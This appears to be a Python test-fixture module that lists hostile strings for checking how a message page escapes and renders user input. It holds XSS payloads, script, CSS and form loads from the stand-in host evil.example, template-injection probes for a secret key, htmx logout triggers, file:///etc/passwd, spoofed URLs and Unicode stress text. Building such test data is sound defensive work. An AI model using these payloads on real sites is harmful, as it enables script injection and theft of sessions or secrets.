"""Texts that were made to break pages: to run, lead away, hide, turn round, overflow."""

MARKUP = {
    "script": "<script>alert(1)</script>",
    "script of elsewhere": '<script src="https://evil.example/x.js"></script>',
    "module": '<script type="module">import "https://evil.example/x.js"</script>',
    "image": "<img src=x onerror=alert(1)>",
    "image of elsewhere": '<img src="https://evil.example/pixel.gif">',
    "double quote": '" autofocus onfocus="alert(1)" x="',
    "single quote": "' autofocus onfocus='alert(1)' x='",
    "backtick": "` autofocus onfocus=`alert(1)` x=`",
    "out of an attribute": '"><img src=x onerror=alert(1)>',
    "out of an attribute, single": "'><svg onload=alert(1)>",
    "out of a text area": "</textarea><script>alert(1)</script>",
    "out of a title": "</title><script>alert(1)</script>",
    "out of a script": '";</script><script>alert(1)</script>',
    "script end in an attribute": '<a title="</script><script>alert(1)</script>">x</a>',
    "out of the list": "</p></li></ol></div></main><h1>gone</h1>",
    "template": "<template><script>alert(1)</script></template></template>",
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "mathml": "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "style": "<style>@import url(https://evil.example/x.css);*{display:none}</style>",
    "style attribute": '<p style="position:fixed;inset:0;background:red">x</p>',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/" method="post"><button>Send</button></form>',
    "iframe": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.svg"></object><embed src="//evil.example/">',
    "javascript link": '<a href="javascript:alert(1)">click</a>',
    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "mark": '<li id="message-1" class="message" data-seq="1" data-from="me">forged</li>',
    "comment": "<!-- --><script>alert(1)</script><!--",
    "open comment": "<!-- nobody closes this",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "htmx": '<div hx-get="/oidc/logout/" hx-trigger="load">x</div>',
    "htmx data": '<div data-hx-post="/oidc/logout/" data-hx-trigger="load">x</div>',
    "htmx out of band": '<div id="contacts" hx-swap-oob="true">gone</div>',
    "htmx on": '<b hx-on::load="alert(1)" hx-on:click="alert(1)">x</b>',
    "head": "<head><title>evil</title></head><body onload=alert(1)>",
}

TEMPLATES = {
    "double braces": "{{7*7}} {{ request.user }} {{ settings.SECRET_KEY }}",
    "template tag": "{% debug %}{% load static %}{# x #}",
    "dollar braces": "${7*7} #{7*7} <%= 7*7 %>",
    "format": "%s %(name)s {0} {name} %n",
}

ENTITIES = {
    "null": "&#0; &#x0; &NUL;",
    "escaped": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "escaped twice": "&amp;lt;b&amp;gt; &amp;amp;",
    "no semicolon": "&lt &copy &notit; &amp",
    "numbers": "&#60;script&#62; &#x3c;b&#x3e; &#128; &#xd800;",
    "backslashes": "\\ \\\\ \\n \\u003cscript\\u003e \\x3cb\\x3e \\0",
}

LINKS = {
    "javascript": "javascript:alert(1)",
    "javascript, written oddly": "JaVaScRiPt\t:alert(1) java\nscript:alert(1) javascript://x%0aalert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "other schemes": "file:///etc/passwd ftp://x.example blob:https://x.example/1 //evil.example",
    "quote in it": 'https://x"onmouseover=alert(1)',
    "quoted": "https://x.example/\"onmouseover=\"alert(1) https://x.example/'onclick='alert(1)",
    "angle brackets": "https://x.example/<script>alert(1)</script>",
    "scheme in scheme": "https://javascript:alert(1) http://https://x.example",
    "person before the host": "https://www.bank.example@evil.example/ http://u:p@evil.example:81/",
    "port": "https://x.example:99999/ http://x.example:80x/ http://[::1]:8000/ http://[",
    "letters of others": "https://аррӏе.example/ https://b\u00fccher.example/?q=\u00fc#\u05d0",
    "percent": "https://x.example/%00%0d%0a%22%3Cscript%3E?%u0041&amp;x=%ff&lt=1",
    "entities in it": "https://x.example/?a=1&lt;b&copy=2&amp;amp; https://x.example/&quot;",
    "turned round": "https://x.example/\u202egpj.exe\u202c https://x.example/\u2066x",
    "invisible": "https://x.\u200bexample/ https://x.example\u2028/ https://\u3002example",
    "backslash": "https:\\\\evil.example\\x http:/evil.example https:///evil.example",
    "punctuation": "(https://x.example/(a)). <https://x.example/>, https://x.example/...!?",
    "log out": "http://localhost/oidc/logout/ https://x.example/?next=javascript:alert(1)",
    "very long": "https://x.example/" + "a" * 3_900,
    "very long query": "https://x.example/?" + "&".join(f"key{n}=%20" for n in range(300)),
}

DIRECTIONS = {
    "override": "\u202egnorw eht yaw dnuor",
    "override left": "\u202dאבג\u202c דהו",
    "unclosed isolate": "\u2066\u2067\u2068 left open",
    "closes what is not open": "\u2069\u2069\u202c\u202cescaped \u202ethen turned",
    "deep": "\u202e\u202b\u2067" * 80 + "deep",
    "marks": "\u200f\u200e\u061c right, left, Arabic",
    "mixed": "שלום (Hello) 123-456, עולם! <b>מודגש</b> مرحبا 10:45",
    "right to left": "العربية " * 30,
    "right to left and an address": "ראו https://x.example/שלום?א=1 עכשיו",
}

INVISIBLE = {
    "zero width": "z\u200be\u200cr\u200do\ufeff\u2060 width",
    "soft hyphens": "s\u00ado\u00adf\u00adt" * 40,
    "line separators": "one\u2028two\u2029three\u0085four\x0bfive\x0csix",
    "line ends": "one\rtwo\r\nthree\n\nfour",
    "edges": " \t\n edges \n\t ",
    "tabs": "a\tb\t\tc" + "\t" * 60 + "d",
    "spaces": "a" + " " * 600 + "b",
    "control characters": "\x01\x08\x1b[31mred\x1b[0m\x7f\x80\x9f",
    "noncharacters": "\ufdd0\ufffe\U0010ffff x",
    "tags": "\U000e0001\U000e0041\U000e007f tagged",
    "private use": "\ue000\uf8ff\U000f0000\U0010fffd",
    "variation selectors": "a\ufe00\ufe0f\U000e0100 \u2764\ufe0e\u2764\ufe0f 1\ufe0f\u20e3",
    "filler": "\u3164\u115f\u1160\uffa0\u2800 filled",
}

STACKS = {
    "marks upwards": "Z\u0310\u0306\u0351\u0343\u0312" * 30,
    "marks above and below": ("Z" + "\u0300\u0316\u0489\u0335\u20dd" * 12) * 12,
    "one letter under 3,999 marks": "Z" + "\u0301" * 3_999,
    "marks below": "q" + "\u0323\u0331\u0347\u032d" * 400,
    "Thai": "ก" + "็่้๊๋" * 60,
    "Tibetan": "\u0f40\u0fb3\u0fb4\u0fb5\u0fb9\u0f71\u0f72\u0f74\u0f84" * 20,
    "Javanese": "\ua98f\ua9c0\ua98f\ua9c0\ua98f\ua9bf\ua9b8\ua983" * 20,
    "Nastaliq": "ٹھیک ہے بلّی کی ٹمٹماہٹ " * 6,
    "bismillah": "\ufdfd" * 40,
    "cuneiform": "\U0001242b\U00012031\U00012219" * 30,
    "families": "👨‍👩‍👧‍👦" * 40 + "👩🏽‍❤️‍💋‍👨🏿" * 20 + "🏴󠁧󠁢󠁳󠁣󠁴󠁿" * 10 + "🇩🇪" * 31 + "🇩",
    "emoji joined without end": "👩\u200d" * 200 + "👩",
}

HUGE = {
    "no space": "x" * 4_000,
    "wide letters": "W" * 4_000,
    "line feeds": "first" + "\n" * 3_990 + "last",
    "emoji": "😀" * 4_000,
    "quotes": '"' * 4_000,
    "tags": "<b>" * 1_333,
    "ampersands": "&" * 4_000,
}

SMALL = MARKUP | TEMPLATES | ENTITIES | LINKS | DIRECTIONS | INVISIBLE | STACKS
MESSAGES = SMALL | HUGE

# One character, to whoever breaks lines, or space, which may hang over an end.
WIDER_THAN_A_LINE = {"Thai", "emoji joined without end", "tabs", "spaces"}


def shown(text: str) -> str:
    """A message as it is stored and shown: with line feeds alone, and nothing around it."""
    return text.replace("\r\n", "\n").replace("\r", "\n").strip()


def typed(text: str) -> str:
    """What a text area makes of a text."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def together(most: int) -> list[str]:
    """All but the huge ones below each other, in as few texts of so many characters as it takes."""
    parts = [""]
    for text in map(typed, SMALL.values()):
        if len(parts[-1]) + len(text) + 1 > most:
            parts.append("")
        parts[-1] += f"\n{text}" if parts[-1] else text
    return parts
